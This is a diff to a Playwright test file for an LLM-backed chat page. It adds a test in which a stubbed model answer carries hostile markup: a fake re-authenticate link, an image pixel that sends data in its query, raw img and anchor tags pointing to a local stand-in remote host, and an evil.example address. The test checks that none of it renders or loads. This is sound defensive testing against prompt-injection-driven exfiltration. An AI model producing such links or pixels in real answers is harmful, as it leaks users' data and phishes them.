@@ -216,8 +216,8 @@ def ask_on_page(page: Any, question: str) -> None:
     done = page.locator('section.turn[data-state="done"]').count()
     page.fill("#question", question)
     page.press("#question", "Enter")
-    page.wait_for_function(f"document.querySelectorAll('section.turn[data-state=done]').length > {done}",
-                           timeout=60_000)
+    # a selector, not a JavaScript predicate: the page's CSP forbids the eval a predicate needs
+    page.locator('section.turn[data-state="done"]').nth(done).wait_for(timeout=60_000)
 
 
 def test_chat_page_streams_the_answer_with_tool_panels_and_a_chart(tmp_path: Path) -> None:
@@ -278,3 +278,65 @@ def test_chat_page_asks_for_the_token_and_says_when_there_is_no_model(tmp_path: 
         ARTIFACTS.mkdir(exist_ok=True)
         page.screenshot(path=str(ARTIFACTS / "chat-page-degraded.png"), full_page=True)
         assert page.errors == []
+
+
+class _CountingServer:
+    """An HTTP server on 127.0.0.1 that counts every request: the "remote" site an answer links to."""
+
+    def __init__(self) -> None:
+        import http.server
+
+        hits: list[str] = []
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self) -> None:  # noqa: N802 - stdlib naming
+                hits.append(self.path)
+                self.send_response(200)
+                self.send_header("Content-Type", "image/png")
+                self.send_header("Content-Length", "0")
+                self.end_headers()
+
+            def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - stdlib signature
+                return
+
+        self.hits = hits
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.origin = f"http://127.0.0.1:{self.server.server_address[1]}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def test_chat_page_renders_no_link_image_or_html_from_an_answer(tmp_path: Path) -> None:
+    chromium_or_skip()
+    remote = _CountingServer()
+
+    def markup_policy(body: dict[str, Any]) -> StubReply:
+        """Tools as usual, then an answer full of markup a hostile text could talk a model into."""
+        if any(message.get("role") == "tool" for message in body.get("messages") or []):
+            return StubReply(content=(
+                f"**node-3 is drained.** [Re-authenticate to gpudoc]({remote.origin}/login) "
+                f"![status]({remote.origin}/pixel.png?d=cluster) <img src=\"{remote.origin}/raw.png\"> "
+                f"<a href=\"{remote.origin}/a\">click</a> www.evil.example\n\n| GPU | temp |\n|---|---|\n| 0 | 63.0 |\n"))
+        return keyword_policy(body)
+
+    try:
+        with StubVllmServer(policy=markup_policy) as llm_url, \
+                gpudoc_serve(tmp_path, llm_url, "--scenario", "hostile-names") as url, browser_page() as page:
+            page.goto(url + "/")
+            page.wait_for_selector("#llm-status.pill-ok")
+            ask_on_page(page, "Why is node-3 drained?")
+            answer = page.locator(".answer").last
+            text = answer.inner_text()
+            assert answer.locator("a, img").count() == 0
+            assert answer.locator("table").count() == 1 and answer.locator("strong").count() == 1
+            assert "Re-authenticate to gpudoc" in text and f"({remote.origin}/login)" in text
+            assert "[image: status]" in text and '<img src="' in text  # shown as text, never loaded
+            page.wait_for_timeout(300)
+            csp = httpx.get(url + "/").headers["content-security-policy"]
+    finally:
+        remote.close()
+    assert remote.hits == []
+    assert "img-src 'self' data:" in csp and "script-src 'self'" in csp and "frame-ancestors 'none'" in csp
